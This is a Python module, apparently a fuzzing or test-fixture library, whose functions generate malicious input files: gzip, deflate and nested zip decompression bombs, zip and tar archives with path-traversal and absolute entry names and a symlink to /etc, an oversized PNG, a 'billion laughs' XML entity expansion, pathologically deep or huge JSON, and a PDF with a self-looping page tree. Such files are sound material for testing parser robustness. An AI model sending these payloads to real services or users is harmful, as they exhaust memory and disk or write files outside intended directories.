"""Small things that become large ones in the hands of whoever opens them."""

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib

MB = 1024 * 1024


def gzip_bomb(size_mb: int) -> bytes:
    squeezed = io.BytesIO()
    with gzip.GzipFile(fileobj=squeezed, mode="wb", compresslevel=9) as file:
        for _ in range(size_mb):
            file.write(bytes(MB))
    return squeezed.getvalue()


def deflate_bomb(size_mb: int) -> bytes:
    squeezer = zlib.compressobj(9)
    return b"".join(squeezer.compress(bytes(MB)) for _ in range(size_mb)) + squeezer.flush()


def zip_bomb(size_mb: int, depth: int = 3) -> bytes:
    """Archives in archives, each of several, as in 42.zip."""
    inner = gzip_bomb(size_mb)
    for _ in range(depth):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(16):
                archive.writestr(f"../../{number}.zip", inner)
        inner = packed.getvalue()
    return inner


def tar_bomb() -> bytes:
    """Names that lead out, links, and a size that is a lie."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name in ("/etc/passwd", "../../secret.txt"):
            archive.addfile(tarfile.TarInfo(name))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(link)
    return packed.getvalue()


def png_bomb(side: int = 60_000) -> bytes:
    """A picture of billions of points, all of them the same."""
    head = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", deflate_bomb(64)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def xml_bomb() -> bytes:
    """A billion laughs."""
    entities = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><p>&l9;</p>'.encode()


def deep_json(depth: int) -> str:
    return '{"path":' + "[" * depth + "]" * depth + "}"


def wide_json(size_mb: int) -> str:
    return json.dumps({"path": "x" * (size_mb * MB)})


def looping_pdf() -> bytes:
    """Its tree of pages has itself as a branch."""
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Count 9999999 /Kids [2 0 R 2 0 R] >>\nendobj\n"
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n"
        b"trailer << /Size 3 /Root 1 0 R >>\nstartxref\n126\n%%EOF"
    )
